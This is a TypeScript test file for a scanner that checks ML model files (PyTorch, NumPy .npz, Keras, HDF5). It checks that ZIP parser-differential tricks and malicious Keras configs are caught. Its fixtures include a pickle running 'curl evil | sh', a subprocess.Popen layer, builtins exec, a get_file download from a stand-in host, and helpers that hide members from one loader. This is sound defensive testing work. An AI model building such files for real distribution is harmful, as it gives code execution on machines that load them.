import { runGate } from './helpers/gate.js';
import { describe, expect, it } from 'vitest';
import { readZip } from '../src/formats/zip.js';
import { bufferAccess } from '../src/formats/pickle/source.js';
import { scanModelBytes, type ModelIssue } from '../src/formats/pickle/model-file.js';
import { compileAllowList } from '../src/formats/pickle/classify.js';
import type { Report } from '../src/report/types.js';
import { type FileTree } from './helpers/repo.js';
import { callPickle, makeZip, npy, p, torchDataPkl, torchZip, type ZipMember } from './pickle-fixtures.js';

// Issue 19, items 5 and 7: archives that loaders read differently, and Keras configs the byte search missed.

const EVIL = callPickle('os', 'system', 'curl evil | sh');
const HDF5 = Buffer.from('\x89HDF\r\n\x1a\n', 'latin1');

/** The whole product under mlgate:recommended (no policy file in the repository). */
const gate = (files: FileTree): Promise<Report> => runGate(files, { now: new Date('2026-11-28T12:00:00Z') });

/** Unwaived model-file-safety errors on `path`, as `code` without the rule prefix. */
function errorsOn(r: Report, path: string): string[] {
  return r.findings
    .filter((f) => f.path === path && f.level === 'error' && !f.waived && f.rule === 'model-file-safety')
    .map((f) => f.code!.replace(/^model-file-safety\//, ''))
    .sort();
}

async function scan(data: Buffer): Promise<ModelIssue[]> {
  return (await scanModelBytes(data, 'strict', { allow: compileAllowList([]), maxBytes: 1 << 30 })).issues;
}

/** Sets a 16-bit field of the last end-of-central-directory record (8/10: member counts, 20: comment length). */
function patchEnd(zip: Buffer, field: number, value: number): Buffer {
  const out = Buffer.from(zip);
  out.writeUInt16LE(value, out.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1')) + field);
  return out;
}

const kerasConfig = (layers: unknown[]): Buffer =>
  Buffer.from(JSON.stringify({ module: 'keras', class_name: 'Sequential', config: { name: 'seq', layers }, registered_name: null }));
const dense = (name: string): unknown => ({ module: 'keras.layers', class_name: 'Dense', config: { name, units: 4, dtype: { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' }, registered_name: null } }, registered_name: null });
const lambda = { module: 'keras.layers', class_name: 'Lambda', config: { name: 'lam', function: { class_name: '__lambda__', config: { code: '4wEAAAAA' } } }, registered_name: null };
const keras = (config: Buffer, extra: ZipMember[] = []): Buffer =>
  makeZip([{ name: 'metadata.json', data: Buffer.from('{"keras_version": "3.8.0"}') }, { name: 'config.json', data: config }, { name: 'model.weights.h5', data: HDF5 }, ...extra]);
/** An HDF5 file with `json` where Keras's model_config attribute would hold it, among binary bytes. */
const h5 = (json: string): Buffer => Buffer.concat([HDF5, Buffer.alloc(600, 0), Buffer.from('model_config\0\0\0\x13\x00\x00\x00', 'latin1'), Buffer.from(json, 'utf8'), Buffer.alloc(300, 0xff)]);

describe('5a: two end-of-central-directory records', () => {
  // A benign checkpoint, then a malicious archive whose end record claims a comment that is not there.
  const file = patchEnd(makeZip([{ name: 'archive/data.pkl', data: EVIL }], { prefix: torchZip() }), 20, 100);

  it('zipfile and miniz both take the last record: its members are scanned, and the ambiguity is an error', async () => {
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.filter((e) => e.name === 'archive/data.pkl').map((e) => e.seenBy.sort())).toEqual([['miniz', 'zipfile']]);
    expect(listing.problems.map((e) => e.message).join('\n')).toMatch(/declares a 100-byte comment but 0 bytes follow it; another end record, at byte \d+, does fit/);
    const r = await gate({ 'models/model.pt': file });
    expect(errorsOn(r, 'models/model.pt')).toEqual(['dangerous-global', 'malformed']);
    expect(r.conclusion).toBe('failure');
  });

  it('near miss: a normal PyTorch checkpoint passes', async () => {
    const r = await gate({ 'models/model.pt': torchZip() });
    expect(r.findings.filter((f) => f.path === 'models/model.pt' && f.rule === 'model-file-safety')).toEqual([]);
    expect(r.conclusion).toBe('success');
  });
});

describe('5b: an end record that lists fewer members than the central directory holds', () => {
  it('a hidden .npy with an object array in an .npz', async () => {
    const file = patchEnd(patchEnd(makeZip([{ name: 'w.npy', data: npy("'<f4'", '(1,)', Buffer.alloc(4)) }, { name: 'x.npy', data: npy("'|O'", '(1,)', EVIL) }]), 8, 1), 10, 1);
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.map((e) => [e.name, e.seenBy.sort().join('+')])).toEqual([
      ['w.npy', 'miniz+zipfile'],
      ['x.npy', 'zipfile'],
    ]);
    expect(listing.problems.map((e) => e.message).join('\n')).toMatch(/end record lists 1 members but its central directory holds 2/);
    const r = await gate({ 'data/x.npz': file });
    expect(errorsOn(r, 'data/x.npz')).toEqual(['dangerous-global', 'malformed']);
    expect(r.conclusion).toBe('failure');
  });

  it('a hidden config.json with a Lambda layer in a .keras', async () => {
    const file = patchEnd(patchEnd(keras(kerasConfig([dense('d'), lambda])), 8, 1), 10, 1);
    const r = await gate({ 'models/m.keras': file });
    expect(errorsOn(r, 'models/m.keras')).toEqual(['lambda-layer', 'malformed']);
    expect(r.conclusion).toBe('failure');
  });
});

describe('5c: a .keras behind a prefix, with offsets zipfile corrects', () => {
  it.each([
    ['a two-byte pickle', Buffer.from('N.', 'latin1')],
    ['two bytes that are no pickle', Buffer.from([0xfe, 0xff])],
  ])('%s before the archive', async (_n, prefix) => {
    const file = Buffer.concat([prefix, keras(kerasConfig([lambda]))]);
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.map((e) => e.name)).toContain('config.json');
    expect(listing.problems.map((e) => e.message).join('\n')).toMatch(/central directory is 2 bytes after where its end record says/);
    const r = await gate({ 'models/m.keras': file });
    expect(errorsOn(r, 'models/m.keras')).toEqual(expect.arrayContaining(['lambda-layer', 'malformed']));
    expect(r.conclusion).toBe('failure');
  });

  it('near miss: a pickle that carries a checkpoint as bytes (torch.storage._load_from_bytes style) is not a prefixed zip', async () => {
    const pickled = p().proto(2).global('collections', 'OrderedDict').bytes(torchZip()).tuple1().reduce().stop().build_();
    expect(await scan(pickled)).toEqual([]);
  });
});

/** Adds `extra` to the first central-directory entry's extra field (the directory grows; no member moves). */
function withCentralExtra(zip: Buffer, extra: Buffer): Buffer {
  const cd = zip.indexOf(Buffer.from('PK\x01\x02', 'latin1'));
  const at = cd + 46 + zip.readUInt16LE(cd + 28) + zip.readUInt16LE(cd + 30);
  const out = Buffer.concat([zip.subarray(0, at), extra, zip.subarray(at)]);
  out.writeUInt16LE(out.readUInt16LE(cd + 30) + extra.length, cd + 30);
  const end = out.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'));
  out.writeUInt32LE(out.readUInt32LE(end + 12) + extra.length, end + 12);
  return out;
}

describe('5: every other way the loaders disagree is named, and both views are scanned', () => {
  it('a NUL in a member name: zipfile cuts the name there, so Keras loads "config.json"', async () => {
    const file = makeZip([{ name: 'config.json\0.txt', data: kerasConfig([lambda]) }]);
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.map((e) => [e.name, e.seenBy.join('+')])).toEqual([
      ['config.json', 'zipfile'],
      ['config.json\0.txt', 'miniz'],
    ]);
    expect(listing.problems.map((e) => e.message)).toEqual([expect.stringMatching(/see different members/)]);
    const r = await gate({ 'models/m.keras': file });
    expect(errorsOn(r, 'models/m.keras')).toEqual(['lambda-layer', 'malformed']);
    expect(r.findings.find((f) => f.code === 'model-file-safety/lambda-layer')?.message).toMatch(/member "config\.json" \(only Python's zipfile \(Keras, NumPy\) sees it\)/);
  });

  it('a name used twice: each loader may load a different copy', async () => {
    const file = makeZip([{ name: 'archive/data.pkl', data: torchDataPkl() }, { name: 'archive/data.pkl', data: EVIL }]);
    const listing = await readZip(bufferAccess(file));
    expect(listing.problems.map((e) => e.message).join('\n')).toMatch(/sees the name "archive\/data\.pkl" more than once/);
    expect(errorsOn(await gate({ 'models/model.pt': file }), 'models/model.pt')).toEqual(['dangerous-global', 'malformed']);
  });

  it('a ZIP64 locator that points elsewhere: miniz follows it, zipfile reads the record before it', async () => {
    const hidden = makeZip([{ name: 'archive/data.pkl', data: EVIL }], { zip64: true });
    const file = makeZip([{ name: 'archive/data.pkl', data: torchDataPkl() }], { zip64: true, prefix: hidden });
    // Point the last locator at the first archive's ZIP64 end record.
    file.writeBigUInt64LE(BigInt(hidden.length - 22 - 20 - 56), file.length - 22 - 20 + 8);
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.map((e) => [e.localHeaderOffset, e.seenBy.join('+')])).toEqual([
      [hidden.length, 'zipfile'],
      [0, 'miniz'],
    ]);
    const issues = await scan(file);
    expect(issues.map((i) => i.code).sort()).toEqual(['dangerous-global', 'malformed']);
    expect(issues.find((i) => i.code === 'dangerous-global')?.message).toMatch(/\(only PyTorch's reader \(miniz\) sees it\)/);
  });

  it('an extra field zipfile rejects and miniz ignores', async () => {
    const file = withCentralExtra(makeZip([{ name: 'x.npy', data: npy("'|O'", '(1,)', EVIL) }]), Buffer.from([0x99, 0x99, 0x10, 0x00, 1, 2]));
    const listing = await readZip(bufferAccess(file));
    expect(listing.entries.map((e) => e.seenBy)).toEqual([['miniz']]);
    expect(listing.problems.map((e) => e.message)).toEqual([expect.stringMatching(/^Python's zipfile \(Keras, NumPy\) cannot read it \(member "x\.npy" has a corrupt extra field\) while PyTorch's reader \(miniz\) can$/)]);
    expect(errorsOn(await gate({ 'data/x.npz': file }), 'data/x.npz')).toEqual(['dangerous-global', 'malformed']);
  });

  it('a central directory beyond the end: zipfile finds it by its size, miniz gives up', async () => {
    const file = makeZip([{ name: 'x', data: Buffer.from('1') }]);
    file.writeUInt32LE(0xfffff, file.length - 6);
    const { problems } = await readZip(bufferAccess(file));
    expect(problems.map((e) => e.message).join('\n')).toMatch(/PyTorch's reader \(miniz\) cannot read it \(the central directory lies beyond the end of the file\)/);
  });
});

describe('7: Keras archives and HDF5 configs', () => {
  const cases: Array<[string, string, Buffer, string[]]> = [
    ['a .keras holding only config.json', 'models/m.keras', makeZip([{ name: 'config.json', data: kerasConfig([lambda]) }]), ['lambda-layer']],
    ['a .keras with model.weights.npz', 'models/m.keras', makeZip([{ name: 'config.json', data: kerasConfig([lambda]) }, { name: 'model.weights.npz', data: makeZip([{ name: 'vars/0.npy', data: npy("'<f4'", '(1,)', Buffer.alloc(4)) }]) }]), ['lambda-layer']],
    ['an object array in model.weights.npz', 'models/m.keras', makeZip([{ name: 'config.json', data: kerasConfig([dense('d')]) }, { name: 'model.weights.npz', data: makeZip([{ name: 'vars/0.npy', data: npy("'|O'", '(1,)', EVIL) }]) }]), ['dangerous-global']],
    ['an .h5 writing "\\u004cambda"', 'models/m.h5', h5('{"class_name": "Sequential", "config": {"layers": [{"class_name": "\\u004cambda", "config": {"name": "lam", "function": ["4wEAAAAA", null, null]}}]}}'), ['lambda-layer']],
    ['an .h5 writing "class_name" : "Lambda"', 'models/m.h5', h5('{"class_name" : "Sequential", "config" : {"layers" : [{"class_name" : "Lambda", "config" : {"name" : "lam"}}]}}'), ['lambda-layer']],
    ['an .h5 escaping the key', 'models/m.h5', h5('{"\\u0063lass_name":"Lambda","config":{"name":"lam"}}'), ['lambda-layer']],
    ['an .h5 whose JSON is cut short but spells a Lambda', 'models/m.h5', h5('{"class_name": "Sequential", "config": {"layers": [{"class_name"  :  "Lambda", "config": {"name": "lam", "x": \x01'), ['lambda-layer']],
    ['a .keras layer from subprocess (CVE-2025-1550)', 'models/m.keras', keras(kerasConfig([dense('d'), { module: 'subprocess', class_name: 'Popen', config: { args: ['sh', '-c', 'id'] }, registered_name: null }])), ['keras-custom-object']],
    ['a .keras function from builtins', 'models/m.keras', keras(kerasConfig([{ module: 'keras.layers', class_name: 'Activation', config: { name: 'a', activation: { module: 'builtins', class_name: 'function', config: 'exec', registered_name: 'function' } } }])), ['keras-custom-object']],
    ['a .keras layer from an unknown package', 'models/m.keras', keras(kerasConfig([{ module: 'evil_pkg.layers', class_name: 'Boom', config: {}, registered_name: 'evil_pkg>Boom' }])), ['keras-custom-object']],
    ['keras.utils.get_file (CVE-2025-8747)', 'models/m.keras', keras(kerasConfig([{ module: 'keras.utils', class_name: 'get_file', config: { origin: 'https://evil.example/x' }, registered_name: null }])), ['keras-custom-object']],
    ['an .h5 layer from subprocess', 'models/m.h5', h5('{"class_name": "Sequential", "config": {"layers": [{"module": "subprocess", "class_name": "Popen", "config": {}}]}}'), ['keras-custom-object']],
  ];
  it.each(cases)('%s fails the gate', async (_n, path, data, want) => {
    const r = await gate({ [path]: data });
    expect(errorsOn(r, path)).toEqual(want);
    expect(r.conclusion).toBe('failure');
  });

  const benign: Array<[string, string, Buffer]> = [
    ['a .keras with only built-in layers', 'models/m.keras', keras(kerasConfig([dense('d1'), dense('d2')]))],
    ['a .keras with only config.json and built-in layers', 'models/m.keras', makeZip([{ name: 'config.json', data: kerasConfig([dense('d')]) }])],
    ['an .h5 with a layer merely named "lambda_like"', 'models/m.h5', h5('{"class_name": "Sequential", "config": {"name": "Lambda", "layers": [{"class_name": "Dense", "config": {"name": "lambda_like", "note": "class_name: Lambda"}}]}}')],
    ['an .h5 with Keras modules in its training config', 'models/m.h5', h5('{"class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d"}}]}, "optimizer": {"module": "keras.optimizers", "class_name": "Adam"}}')],
  ];
  it.each(benign)('near miss: %s passes', async (_n, path, data) => {
    const r = await gate({ [path]: data });
    expect(r.findings.filter((f) => f.path === path && f.rule === 'model-file-safety')).toEqual([]);
    expect(r.conclusion).toBe('success');
  });

  it('a module reviewed into allow-globals passes', async () => {
    const data = keras(kerasConfig([{ module: 'keras_hub.src.models.gemma.gemma_backbone', class_name: 'GemmaBackbone', config: {}, registered_name: 'keras_hub>GemmaBackbone' }]));
    const codes = async (allow: string[]) => (await scanModelBytes(data, 'strict', { allow: compileAllowList(allow), maxBytes: 1 << 30 })).issues.map((i) => i.code);
    expect(await codes([])).toEqual(['keras-custom-object']);
    expect(await codes(['keras_hub.*'])).toEqual([]);
    // The deny-list wins over allow-globals.
    const popen = keras(kerasConfig([{ module: 'subprocess', class_name: 'Popen', config: {} }]));
    expect((await scanModelBytes(popen, 'strict', { allow: compileAllowList(['subprocess.*']), maxBytes: 1 << 30 })).issues.map((i) => i.code)).toEqual(['keras-custom-object']);
  });

  it('tells the engineer what is wrong and how to fix it', async () => {
    const issues = await scan(keras(kerasConfig([{ module: 'subprocess', class_name: 'Popen', config: {} }])));
    expect(issues[0]!.message).toMatch(/member "config\.json": has a Keras config object that makes Keras call subprocess\.Popen, which .+CVE-2025-1550.+rebuild the model from built-in Keras layers/);
  });

  it('finds a config split across the reads of a large HDF5 file', async () => {
    const json = '{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "far"}}]}}';
    const data = Buffer.concat([HDF5, Buffer.alloc(4 * 1024 * 1024 - 40, 0), Buffer.from(json), Buffer.alloc(1000, 0)]);
    const issues = await scan(data);
    expect(issues.map((i) => i.code)).toEqual(['lambda-layer']);
    expect(issues[0]!.message).toMatch(/"far"/);
  });
});
